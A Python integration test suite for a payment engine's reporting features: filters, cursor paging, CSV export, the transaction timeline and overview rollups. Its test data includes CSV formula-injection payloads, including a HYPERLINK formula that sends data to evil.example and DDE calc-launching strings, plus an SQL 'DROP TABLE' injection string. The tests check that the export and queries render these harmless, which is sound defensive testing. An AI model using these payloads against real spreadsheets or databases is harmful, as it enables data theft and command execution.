"""engine/reports on a real database: scoping, filters, cursors, the CSV, timeline, overview."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import aiohttp
import asyncpg
import pytest
from aiohttp.test_utils import TestClient

from config.settings import Settings
from engine import errors, reports
from engine.merchants import keys
from engine.models import HistoryItem, HistoryKind
from engine.reports import PaymentQuery
from engine.store.queries import load
from engine.store.reports import (
    AMOUNT_PAGE,
    FILTER_PAGE,
    PAGE,
    SEARCH_PAGE,
    ReportsStore,
    item,
    page_statement,
)
from engine.store.repository import Repository
from engine.worker.process import Worker
from simulator.server import SimulatorHandle
from tests.conftest import MID, SEED_REQUEST
from tests.integration.engine_support import acquirer_config, merchant_faults
from tests.integration.reports_support import BASE, SECRET, Data, Row, at, fill

OTHER = "other_mid_002"
Q = load("reports")


@pytest.fixture
def store(pool: asyncpg.Pool) -> ReportsStore:
    """The reports store on this test's database."""
    return ReportsStore(pool)


@pytest.fixture
async def data(pool: asyncpg.Pool) -> Data:
    """MID's rows in test mode, and look-alikes in live mode and at OTHER."""
    return await fill(pool, MID, OTHER)


def _seen(items: list[HistoryItem]) -> list[tuple[str, int]]:
    return [(i.kind.value, i.id) for i in items]


def _want(rows: list[Row]) -> list[tuple[str, int]]:
    return [(r.kind, r.id) for r in rows]


async def _all_pages(
    store: ReportsStore, mid: str, mode: str, query: PaymentQuery, limit: int
) -> list[HistoryItem]:
    out: list[HistoryItem] = []
    cursor = None
    for _ in range(100):
        got = await reports.page(store, mid, mode, query, cursor, limit, secret=SECRET)
        assert len(got.rows) <= limit
        out += got.rows
        if got.next_cursor is None:
            return out
        cursor = got.next_cursor
    raise AssertionError("the walk did not end")


# Each filter (and some combinations) with the oracle it must agree with.
CASES: dict[str, tuple[PaymentQuery, Callable[[Row], bool]]] = {
    "none": (PaymentQuery(), lambda r: True),
    "kind payment": (PaymentQuery(kinds=frozenset({"payment"})), lambda r: r.kind == "payment"),
    "kind cancel": (PaymentQuery(kinds=frozenset({"cancel"})), lambda r: r.kind == "cancel"),
    "kind refund": (PaymentQuery(kinds=frozenset({"refund"})), lambda r: r.kind == "refund"),
    "status": (
        PaymentQuery(statuses=frozenset({"REFUNDED", "FAILED"})),
        lambda r: r.status in ("REFUNDED", "FAILED"),
    ),
    "from/to": (
        PaymentQuery(created_from=at(3), created_to=at(10)),
        lambda r: at(3) <= r.created_at < at(10),
    ),
    "amounts": (
        PaymentQuery(amount_min=3000, amount_max=8000),
        lambda r: 3000 <= r.amount <= 8000,
    ),
    "currency": (PaymentQuery(currency="USD"), lambda r: r.currency == "USD"),
    "search order prefix": (PaymentQuery(search="ORD-10"), lambda r: r.order_id[:6] == "ORD-10"),
    "search name any case": (
        PaymentQuery(search="BLUE"),
        lambda r: (r.order_name or "").lower().startswith("blue"),
    ),
    "search customer": (PaymentQuery(search="CUST_C"), lambda r: r.customer == "CUST_C"),
    "refund and amount": (
        PaymentQuery(kinds=frozenset({"refund"}), amount_max=5000),
        lambda r: r.kind == "refund" and r.amount <= 5000,
    ),
    "payment, USD, status": (
        PaymentQuery(kinds=frozenset({"payment"}), currency="USD", statuses=frozenset({"PENDING"})),
        lambda r: r.kind == "payment" and r.currency == "USD" and r.status == "PENDING",
    ),
    "search and range": (
        PaymentQuery(search="ORD-", created_from=at(2), created_to=at(9)),
        lambda r: r.order_id.startswith("ORD-") and at(2) <= r.created_at < at(9),
    ),
}


@pytest.mark.parametrize("case", list(CASES))
async def test_each_filter_lists_what_the_oracle_says_in_pages_and_in_the_csv(
    store: ReportsStore, data: Data, case: str
) -> None:
    query, keep = CASES[case]
    want = data.expected(MID, "test", keep)
    assert want or case == "payment, USD, status", case
    for limit in (1, 2, 50):
        assert _want(want) == _seen(await _all_pages(store, MID, "test", query, limit))
    exported = [r async for r in reports.export_rows(store, MID, "test", query, batch=2)]
    assert exported == await _all_pages(store, MID, "test", query, 3)


async def test_a_search_lists_the_same_from_its_matches_as_by_walking_the_history(
    pool: asyncpg.Pool, data: Data
) -> None:
    # Which of the two statements a search runs depends on how many rows it matches
    # (page_statement; here always few): both run here on every search, whole and in pages
    # of 2 from each position, and must agree with the oracle.
    tid = data.expected(MID, "test", lambda r: r.order_id == "INV_77")[0].tid
    searches = [(q, keep) for q, keep in CASES.values() if q.search is not None]
    searches.append((PaymentQuery(search=tid), lambda r: r.tid == tid))
    async with pool.acquire() as conn, conn.transaction(readonly=True):
        await conn.execute(Q["custom_plans"])
        for query, keep in searches:
            everything = query.params(MID, "test", None, None)
            assert await page_statement(conn, everything) == SEARCH_PAGE
            for statement in (PAGE, SEARCH_PAGE):
                items = [item(r) for r in await conn.fetch(statement, *everything)]
                assert _seen(items) == _want(data.expected(MID, "test", keep)), query
                for n, row in enumerate(items):
                    after = query.params(MID, "test", row.key, 2)
                    got = [item(r) for r in await conn.fetch(statement, *after)]
                    assert got == items[n + 1 : n + 3], (query, n)


async def test_an_amount_range_lists_the_same_from_its_matches_as_by_walking(
    pool: asyncpg.Pool, data: Data
) -> None:
    # An amount range with few matches is listed from them (AMOUNT_PAGE: the cancels too, which
    # otherwise walk every cancel by time); a refund is kept or not by its own amount, whatever
    # its payment's. Every statement must agree with the oracle, whole and in pages of 2.
    ranges = [
        (PaymentQuery(amount_min=3000, amount_max=8000), lambda r: 3000 <= r.amount <= 8000),
        (PaymentQuery(amount_max=5000), lambda r: r.amount <= 5000),
        (PaymentQuery(amount_min=6000), lambda r: r.amount >= 6000),
        (
            PaymentQuery(kinds=frozenset({"refund", "cancel"}), amount_max=5000),
            lambda r: r.kind in ("refund", "cancel") and r.amount <= 5000,
        ),
    ]
    kinds_seen: set[str] = set()
    async with pool.acquire() as conn, conn.transaction(readonly=True):
        await conn.execute(Q["custom_plans"])
        for query, keep in ranges:
            everything = query.params(MID, "test", None, None)
            assert await page_statement(conn, everything) == AMOUNT_PAGE
            want = _want(data.expected(MID, "test", keep))
            assert want, query
            for statement in (PAGE, FILTER_PAGE, AMOUNT_PAGE):
                items = [item(r) for r in await conn.fetch(statement, *everything)]
                assert _seen(items) == want, (query, statement == AMOUNT_PAGE)
                kinds_seen |= {i.kind.value for i in items}
                for n, row in enumerate(items):
                    after = query.params(MID, "test", row.key, 2)
                    got = [item(r) for r in await conn.fetch(statement, *after)]
                    assert got == items[n + 1 : n + 3], (query, n)
    # The data has each kind in some range, so each branch was compared.
    assert kinds_seen == {"payment", "cancel", "refund"}


async def test_a_currency_is_compared_as_the_column_is_so_its_index_serves(
    pool: asyncpg.Pool, data: Data
) -> None:
    # currency is char(3); compared with a text parameter, the column was cast to text and its
    # index (payment_search_currency_history_idx) could only be skipped through, not searched
    # (a payment + FAILED + USD + 7 days page read every currency's rows of those 7 days).
    query = PaymentQuery(currency="USD", statuses=frozenset({"PENDING", "REFUNDED"}))
    args = query.params(MID, "test", None, 51)
    async with pool.acquire() as conn, conn.transaction():
        await conn.execute(Q["custom_plans"])
        statement = await page_statement(conn, args)
        assert statement == FILTER_PAGE
        plan = "\n".join(r[0] for r in await conn.fetch(f"EXPLAIN {statement}", *args))
        rows = await conn.fetch(statement, *args)
    # Every branch compares char(3) with char(3): an index on the column can be searched.
    assert plan.count("(currency = 'USD'::bpchar)") == 2 and "(currency)::text" not in plan, plan
    want = data.expected(MID, "test", lambda r: r.currency == "USD" and r.status in query.statuses)
    assert [(r["kind"], r["id"]) for r in rows] == _want(want) and want


async def test_a_tid_is_found_exactly_and_a_pasted_reference_opens_it(
    store: ReportsStore, data: Data
) -> None:
    tid = data.expected(MID, "test", lambda r: r.order_id == "INV_77" and r.kind == "payment")[
        0
    ].tid
    got = await reports.page(store, MID, "test", PaymentQuery(search=tid), None, 50, secret=SECRET)
    # The payment and its refund.
    assert {(i.kind.value, i.tid) for i in got.rows} == {("payment", tid), ("refund", tid)}
    assert await reports.find_exact(store, MID, "test", tid) == tid
    assert await reports.find_exact(store, MID, "test", " INV_77 ") == tid
    assert await reports.find_exact(store, MID, "test", "INV_7") is None
    # Another mode's or another merchant's reference opens nothing.
    live_tid = data.expected(MID, "live", lambda r: r.order_id == "ORD-5005")[0].tid
    assert await reports.find_exact(store, MID, "test", live_tid) is None
    assert await reports.find_exact(store, MID, "live", live_tid) == live_tid
    assert await reports.find_exact(store, OTHER, "test", tid) is None


async def test_rows_are_scoped_by_merchant_and_mode(store: ReportsStore, data: Data) -> None:
    for mid, mode in ((MID, "test"), (MID, "live"), (OTHER, "test"), (OTHER, "live")):
        listed = await _all_pages(store, mid, mode, PaymentQuery(), 2)
        assert _seen(listed) == _want(data.expected(mid, mode))
        exported = [r async for r in reports.export_rows(store, mid, mode, PaymentQuery())]
        assert _seen(exported) == _want(data.expected(mid, mode))
    # A cursor is bound to its (mid, mode).
    first = await reports.page(store, MID, "test", PaymentQuery(), None, 1, secret=SECRET)
    assert first.next_cursor
    for mid, mode in ((MID, "live"), (OTHER, "test")):
        with pytest.raises(errors.InvalidField) as caught:
            await reports.page(
                store, mid, mode, PaymentQuery(), first.next_cursor, 1, secret=SECRET
            )
        assert caught.value.field == "cursor"


async def test_paging_under_inserts_has_no_duplicates_and_no_gaps(
    store: ReportsStore, data: Data
) -> None:
    before = _want(data.expected(MID, "test"))
    seen: list[tuple[str, int]] = []
    cursor = None
    for n in itertools.count():
        got = await reports.page(store, MID, "test", PaymentQuery(), cursor, 2, secret=SECRET)
        seen += _seen(got.rows)
        # Between pages: a newer payment (above the walk), and one older than the position.
        await data.payment(MID, f"NEW-{n}", minute=100 + n)
        if got.rows:
            older = got.rows[-1].created_at - BASE - timedelta(minutes=1)
            await data.payment(MID, f"OLD-{n}", minute=int(older.total_seconds() // 60))
        if got.next_cursor is None:
            break
        cursor = got.next_cursor
    assert len(seen) == len(set(seen))
    assert set(before) <= set(seen)
    # The walk never went back up: each row listed is older than the one before it.
    key_of = {(r.kind, r.id): r.key for r in data.expected(MID, "test")}
    walked = [key_of[s] for s in seen]
    assert walked == sorted(walked, reverse=True)


async def _export(store: ReportsStore, mid: str, mode: str, query: PaymentQuery) -> bytes:
    chunks: list[bytes] = []

    async def write(chunk: bytes) -> None:
        chunks.append(chunk)

    await reports.export_csv(store, mid, mode, query, write)
    return b"".join(chunks)


async def test_the_csv_equals_the_pages_concatenated(store: ReportsStore, data: Data) -> None:
    query = PaymentQuery(kinds=frozenset({"payment", "refund"}))
    chunks = [
        c
        async for c in reports.csv_chunks(
            reports.export_batches(store, MID, "test", query, batch=2)
        )
    ]
    assert len(chunks) > 2
    assert await _export(store, MID, "test", query) == b"".join(chunks)
    lines = list(csv.reader(io.StringIO(b"".join(chunks).decode())))
    assert tuple(lines[0]) == reports.CSV_HEADER
    pages = await _all_pages(store, MID, "test", query, 2)
    assert lines[1:] == [
        [
            i.kind.value,
            i.tid,
            i.refund_id or "",
            i.order_id,
            i.order_name or "",
            i.user_public_id,
            str(i.amount),
            i.currency,
            i.status,
            reports.utc_iso(i.created_at),
        ]
        for i in pages
    ]
    assert lines[1][-1].endswith("Z") and datetime.fromisoformat(lines[1][-1]).tzinfo == UTC


# Text a merchant or its customers control, as a spreadsheet would run it, and the cell the
# export writes for it (written straight into the table: the API refuses control characters,
# older rows or another writer might not).
FORMULAS = [
    (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # Not at the start: left as it is, and quoted, so a ; or , inside starts no new cell.
    ('Mug;=1+1,"big"', 'Mug;=1+1,"big"'),
    # Line breaks and quotes inside a cell, one that ends like a line does (Z" then \n).
    ('two\nlines Z"\nand\r\nmore "quoted"', 'two\nlines Z"\nand\r\nmore "quoted"'),
    ("한글 \uff1d1+1", "한글 \uff1d1+1"),  # a full-width equals sign: not a formula
]


async def test_the_csv_disarms_spreadsheet_formulas_in_every_text_cell(
    pool: asyncpg.Pool, store: ReportsStore
) -> None:
    d = Data(pool)
    for n, (name, _) in enumerate(FORMULAS):
        await d.payment(MID, f"ORD-{n}", minute=n, name=name, amount=1000 + n)
    # An order id and a customer id are the merchant's words too; the tid a text cell.
    await d.payment(MID, "-1000", minute=30, customer="=cmd|' /C calc'!A0", amount=9)
    await d.pool.execute("UPDATE payment_processes SET tid = '-' || tid WHERE order_id = '-1000'")
    query = PaymentQuery()
    text = await _export(store, MID, "test", query)
    reference = [
        c async for c in reports.csv_chunks(reports.export_batches(store, MID, "test", query))
    ]
    assert text == b"".join(reference)  # PostgreSQL's lines are Python's csv module's
    header, body = text.split(b"\r\n", 1)
    assert header == b",".join(b'"%s"' % h.encode() for h in reports.CSV_HEADER)
    lines = list(csv.reader(io.StringIO(text.decode(), newline="")))
    by_order = {line[3]: line for line in lines[1:]}
    for n, (_, written) in enumerate(FORMULAS):
        line = by_order[f"ORD-{n}"]
        assert line[4] == written, line
        assert line[6] == str(1000 + n)  # the amount: a number, as it is
    hostile = by_order["'-1000"]
    assert hostile[1].startswith("'-REPT_") and hostile[5] == "'=cmd|' /C calc'!A0"
    assert hostile[6] == "9"
    # Each line ends in CRLF (a break inside a cell stays as it was); every cell is quoted
    # but the amount.
    records = body.split(b'Z"\r\n')
    assert len(records) == len(lines) and records[-1] == b""
    for record, line in zip(records, lines[1:], strict=False):
        assert record.startswith(b'"') and b',%s,"' % line[6].encode() in record, record


async def test_the_reference_writer_leaves_numbers_alone() -> None:
    assert reports.cell("-5") == "'-5" and reports.cell("=1") == "'=1"
    assert reports.cell(None) == reports.cell("") == "" and reports.cell("a=1") == "a=1"
    row = HistoryItem(
        kind=HistoryKind.REFUND,
        id=1,
        tid="T1",
        refund_id="+R1",
        order_id="O1",
        order_name=None,
        user_public_id="@u",
        amount=-500,
        currency="KRW",
        status="REFUNDED",
        created_at=datetime(2026, 1, 31, 9, tzinfo=UTC),
    )

    async def batches() -> AsyncIterator[list[HistoryItem]]:
        yield [row]

    written = b"".join([c async for c in reports.csv_chunks(batches())])
    assert written.split(b"\r\n")[1] == (
        b'"refund","T1","\'+R1","O1","","\'@u",-500,"KRW","REFUNDED","2026-01-31T09:00:00.000000Z"'
    )


async def test_a_search_with_quotes_breaks_and_dollars_exports_what_the_page_lists(
    pool: asyncpg.Pool, store: ReportsStore
) -> None:
    # The export's COPY takes no parameters: asyncpg puts them in the statement as literals
    # (quoted by the server). A value must stay a value, whatever it holds.
    d = Data(pool)
    odd = "O'x $1 $8 -- \\ \n); DROP TABLE payment_processes; --"
    await d.payment(MID, odd + " one", minute=1, name="=a")
    await d.payment(MID, odd + " two", minute=2)
    await d.payment(MID, "O'x other", minute=3)
    query = PaymentQuery(search=odd, created_from=at(0), amount_min=1)
    lines = list(csv.reader(io.StringIO((await _export(store, MID, "test", query)).decode())))
    pages = await _all_pages(store, MID, "test", query, 1)
    assert (
        [line[3] for line in lines[1:]]
        == [i.order_id for i in pages]
        == [
            odd + " two",
            odd + " one",
        ]
    )
    assert await pool.fetchval("SELECT count(*) FROM payment_processes") == 3


async def test_an_export_whose_client_goes_away_stops_and_frees_its_connection(
    database_url: str, data: Data
) -> None:
    async with asyncpg.create_pool(database_url, min_size=1, max_size=1) as one:
        small = ReportsStore(one)
        writes = 0

        async def write(chunk: bytes) -> None:
            nonlocal writes
            writes += 1
            if writes == 2:  # the header went; the first lines do not
                raise ConnectionResetError("the client went away")

        with pytest.raises(ConnectionResetError):
            await reports.export_csv(small, MID, "test", PaymentQuery(), write)
        # The one connection serves the next reader: no COPY left running on it.
        got = await reports.page(small, MID, "test", PaymentQuery(), None, 50, secret=SECRET)
        assert _seen(got.rows) == _want(data.expected(MID, "test"))
        copying = "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' AND query ^@ 'COPY'"
        assert await one.fetchval(copying) == 0


async def test_the_api_lists_what_the_export_holds(
    client: TestClient, pool: asyncpg.Pool, store: ReportsStore, settings: Settings
) -> None:
    d = await fill(pool, MID, OTHER)
    resp = await client.get("/api/payments?currency=USD&limit=1")
    assert resp.status == 200, await resp.text()
    items = []
    body = await resp.json()
    items += body["items"]
    while body["next"]:
        body = await (
            await client.get(f"/api/payments?currency=USD&limit=1&cursor={body['next']}")
        ).json()
        items += body["items"]
    exported = [
        r async for r in reports.export_rows(store, MID, "test", PaymentQuery(currency="USD"))
    ]
    assert [(i["kind"], i["tid"], i["amount"]) for i in items] == [
        (r.kind.value, r.tid, r.amount) for r in exported
    ]
    assert len(items) == len(d.expected(MID, "test", lambda r: r.currency == "USD"))
    resp = await client.get("/api/payments?currency=usd")
    assert resp.status == 422 and (await resp.json())["field"] == "currency"


HOSTILE: list[tuple[dict[str, Any], str]] = [
    ({"amount_min": -1}, "amount_min"),
    ({"amount_max": 2**63}, "amount_max"),
    ({"amount_max": 10**40}, "amount_max"),
    ({"amount_min": True}, "amount_min"),
    ({"amount_min": 5, "amount_max": 4}, "amount_max"),
    ({"created_from": at(5), "created_to": at(5)}, "created_to"),
    ({"created_from": at(6), "created_to": at(5)}, "created_to"),
    ({"created_from": datetime(2025, 1, 1)}, "created_from"),
    ({"search": "x" * 201}, "search"),
    ({"search": ""}, "search"),
    ({"search": "a\x00b"}, "search"),
    ({"search": "\udcff"}, "search"),
    ({"kinds": frozenset({"payment", "charge"})}, "kinds"),
    ({"kinds": frozenset()}, "kinds"),
    ({"statuses": frozenset({"success"})}, "statuses"),
    ({"currency": "XYZ"}, "currency"),
    ({"currency": "krw"}, "currency"),
]


@pytest.mark.parametrize(("given", "field"), HOSTILE)
def test_hostile_queries_are_refused_naming_the_field(given: dict[str, Any], field: str) -> None:
    with pytest.raises(errors.InvalidField) as caught:
        PaymentQuery(**given)
    assert caught.value.field == field
    assert caught.value.detail.startswith(f"{field}: ")


@pytest.mark.parametrize("limit", [0, -1, 201, 10**9])
async def test_a_page_size_out_of_range_is_refused(store: ReportsStore, limit: int) -> None:
    with pytest.raises(errors.InvalidField) as caught:
        await reports.page(store, MID, "test", PaymentQuery(), None, limit, secret=SECRET)
    assert caught.value.field == "limit"


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("minAmount=5&maxAmount=4", "maxAmount"),
        ("from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z", "to"),
        ("q=" + "x" * 201, "q"),
        ("kind=charge", "kind"),
        ("limit=500", "limit"),
    ],
)
async def test_the_api_names_its_own_parameter(client: TestClient, query: str, field: str) -> None:
    resp = await client.get(f"/api/payments?{query}")
    assert resp.status == 422
    assert resp.content_type == "application/problem+json"
    assert (await resp.json())["field"] == field


async def test_the_timeline_merges_states_refunds_and_webhook_attempts_with_actors(
    client: TestClient,
    repo: Repository,
    store: ReportsStore,
    settings: Settings,
    http: aiohttp.ClientSession,
    sim: SimulatorHandle,
    api_key: str,
) -> None:
    await acquirer_config(http, sim, success_rate=1.0)
    resp = await client.post("/api/payment", json=SEED_REQUEST)
    assert resp.status == 202
    tid = (await resp.json())["transactionId"]
    worker = Worker(settings, repo, http, owner="engine:w1")
    assert (await worker.payments_pass()).settled == 1
    # The first webhook attempt fails (503), the second is delivered.
    await merchant_faults(http, sim, fail_next=1, status=503)
    await worker.webhooks_pass()
    await repo.pool.execute("UPDATE webhook_deliveries SET next_attempt_at = now()")
    await worker.webhooks_pass()
    refund = await client.post(
        f"/api/payments/{tid}/refunds",
        json={"amount": 4000, "reason": "damaged"},
        headers={"Idempotency-Key": "t-1"},
    )
    assert refund.status == 202, await refund.text()
    assert (await worker.refunds_pass()).settled == 1

    entries = await reports.timeline(store, MID, "test", tid)
    assert [e.at for e in entries] == sorted(e.at for e in entries)
    merchant = f"merchant:{keys.display_prefix(api_key)}"
    states = [(e.kind, e.from_status, e.to_status, e.actor) for e in entries if e.kind != "webhook"]
    assert states[:3] == [
        ("state", None, "PENDING", merchant),
        ("state", "PENDING", "PROCESSING", "engine:w1"),
        ("state", "PROCESSING", "SUCCESS", "engine:w1"),
    ]
    refund_lines = [e for e in entries if e.kind == "refund"]
    assert refund_lines[0].actor == merchant and refund_lines[0].actor_kind == "api_key"
    assert refund_lines[0].detail == {"amount": 4000, "currency": "KRW", "reason": "damaged"}
    assert [e.to_status for e in refund_lines] == [
        "REFUND_PENDING",
        "REFUND_PROCESSING",
        "REFUNDED",
    ]
    hooks = [e for e in entries if e.kind == "webhook"]
    assert [(h.to_status, h.detail["responseCode"]) for h in hooks[:2]] == [
        ("SUCCESS", 503),
        ("SUCCESS", 200),
    ]
    first = hooks[0].detail
    assert first["attempt"] == 1 and first["error"] == "http_503"
    assert first["requestHeaders"]["webhook-id"] == first["eventId"]
    assert first["requestHeaders"]["webhook-signature"].startswith("v1,")
    assert f'"transactionId":"{tid}"' in first["requestBody"]
    assert isinstance(first["responseExcerpt"], str)
    assert all(h.actor_kind == "engine" for h in hooks)
    # Not the merchant's in that mode, or not the merchant's: not found.
    for mid, mode in ((MID, "live"), (OTHER, "test")):
        with pytest.raises(errors.PaymentNotFound):
            await reports.timeline(store, mid, mode, tid)


_DIRECT = """
SELECT count(*) AS n,
       count(*) FILTER (WHERE status IN ('SUCCESS', 'PARTIALLY_REFUNDED', 'REFUNDED')) AS ok,
       count(*) FILTER (WHERE status = 'FAILED') AS failed,
       count(*) FILTER (WHERE status = 'CANCELED') AS canceled,
       count(*) FILTER (WHERE status IN ('PENDING', 'PROCESSING', 'UNRESOLVED')) AS open,
       coalesce(sum(amount) FILTER (WHERE currency = 'KRW'), 0) AS krw,
       coalesce(sum(amount) FILTER (WHERE currency = 'USD'
                                      AND status IN ('SUCCESS', 'REFUNDED')), 0) AS usd_ok,
       percentile_cont(0.5) WITHIN GROUP (ORDER BY extract(epoch FROM processed_at - requested_at)
           * 1000) FILTER (WHERE status IN ('SUCCESS', 'FAILED', 'REFUNDED')) AS p50
FROM payment_processes
WHERE mid = $1 AND mode = $2 AND requested_at >= $3 AND requested_at < $4
"""


async def test_the_overview_equals_a_direct_count(store: ReportsStore, pool: asyncpg.Pool) -> None:
    now = datetime(2026, 3, 10, 5, 30, tzinfo=UTC)  # 14:30 in Seoul
    rows = []
    for i in range(120):
        mid, mode = [(MID, "test"), (MID, "live"), (OTHER, "test")][i % 3]
        created = now - timedelta(hours=i * 2.7)
        final = ["SUCCESS", "FAILED", "SUCCESS", "CANCELED", "SUCCESS", "PENDING"][i % 6]
        rows.append(
            (f"ov{i}", f"OV_{i:04d}", mid, mode, created, final, 1000 + i, ["KRW", "USD"][i % 2])
        )
    await pool.executemany(
        "INSERT INTO payment_processes (public_id, tid, mid, order_id, user_public_id, amount,"
        " currency, request_digest, webhook_url, requested_at, mode)"
        " VALUES ($1, $2, $3, $2, 'C', $6, $7, 'd', 'http://127.0.0.1:9/h', $5, $4)",
        [(r[0], r[1], r[2], r[3], r[4], r[6], r[7]) for r in rows],
    )
    # Outcomes through UPDATE statements, as the engine writes them (the trigger counts them).
    for i, r in enumerate(rows):
        if r[5] == "PENDING":
            continue
        await pool.execute(
            "UPDATE payment_processes SET status = $2, approval_no = 'A',"
            " fail_reason = CASE WHEN $2 = 'FAILED' THEN $3 END,"
            " processed_at = requested_at + make_interval(secs => $4) WHERE tid = $1",
            r[1],
            r[5],
            ["DECLINED", "LIMIT"][i % 2],
            0.05 * (i + 1),
        )
    await pool.execute("UPDATE payment_processes SET status = 'REFUNDED' WHERE tid = 'OV_0000'")
    for range_ in ("today", "7d", "30d"):
        got = await reports.overview(store, MID, "test", range_, "Asia/Seoul", now=now)
        assert got.buckets[0].start == got.start
        for b in got.buckets:
            end = b.start + (timedelta(hours=1) if got.unit == "hour" else timedelta(days=1))
            d = await pool.fetchrow(_DIRECT, MID, "test", b.start, end)
            assert (b.count, b.succeeded, b.failed, b.canceled, b.open) == (
                d["n"],
                d["ok"],
                d["failed"],
                d["canceled"],
                d["open"],
            ), (range_, b.start)
            assert b.amount.get("KRW", 0) == d["krw"]
            assert b.succeeded_amount.get("USD", 0) == d["usd_ok"]
            if d["p50"] is None:
                assert b.latency_p50_ms is None
            else:
                # Within the histogram's bucket width (a factor of sqrt 2).
                assert d["p50"] / 1.42 <= b.latency_p50_ms <= d["p50"] * 1.42
        total = sum(b.count for b in got.buckets)
        assert total == (
            await pool.fetchval(
                "SELECT count(*) FROM payment_processes WHERE mid = $1 AND mode = 'test'"
                " AND requested_at >= $2 AND requested_at < $3",
                MID,
                got.start,
                got.end,
            )
        )
    # The rollup the trigger kept (its deltas folded) equals the rollup rebuilt from scratch.
    await pool.execute("SELECT fold_payment_rollup()")
    kept = await pool.fetch("SELECT * FROM payment_rollup ORDER BY 1, 2, 3, 4, 5, 6")
    hist = await pool.fetch("SELECT * FROM payment_latency_rollup ORDER BY 1, 2, 3, 4")
    await pool.execute("SELECT rebuild_payment_rollup()")
    assert kept == await pool.fetch("SELECT * FROM payment_rollup ORDER BY 1, 2, 3, 4, 5, 6")
    assert hist == await pool.fetch("SELECT * FROM payment_latency_rollup ORDER BY 1, 2, 3, 4")


@pytest.mark.parametrize(
    ("range_", "tz", "field"), [("1y", "UTC", "range"), ("7d", "Mars/Base", "tz")]
)
async def test_an_unknown_range_or_zone_is_refused(
    store: ReportsStore, range_: str, tz: str, field: str
) -> None:
    with pytest.raises(errors.InvalidField) as caught:
        await reports.overview(store, MID, "test", range_, tz)
    assert caught.value.field == field


async def test_two_folds_at_once_count_each_settle_once(pool: asyncpg.Pool) -> None:
    """Settles append deltas (no shared row to wait on); folds move each delta exactly once,
    however many run together, and the overview's sums never change while they do."""
    now = datetime.now(UTC)
    await pool.executemany(
        "INSERT INTO payment_processes (public_id, tid, mid, order_id, user_public_id, amount,"
        " request_digest, webhook_url, requested_at, mode)"
        " VALUES ($1, $1, $2, $1, 'C', 1000, 'd', 'http://127.0.0.1:9/h', $3, 'test')",
        [(f"FOLD_{i}", MID, now) for i in range(40)],
    )
    # Forty settles in forty statements: forty deltas.
    for i in range(40):
        await pool.execute(
            "UPDATE payment_processes SET status = 'SUCCESS', approval_no = 'A',"
            " processed_at = now() WHERE tid = $1",
            f"FOLD_{i}",
        )
    assert await pool.fetchval("SELECT count(*) FROM payment_rollup_delta") == 40
    assert not await pool.fetchval("SELECT count(*) FROM payment_rollup")
    moved = await asyncio.gather(*(pool.fetchval("SELECT fold_payment_rollup()") for _ in range(4)))
    assert sum(moved) == 80  # 40 counts and 40 latency deltas, each moved by one fold
    assert not await pool.fetchval("SELECT count(*) FROM payment_rollup_delta")
    assert await pool.fetchval("SELECT sum(n) FROM payment_rollup") == 40
    assert await pool.fetchval("SELECT sum(n) FROM payment_latency_rollup") == 40
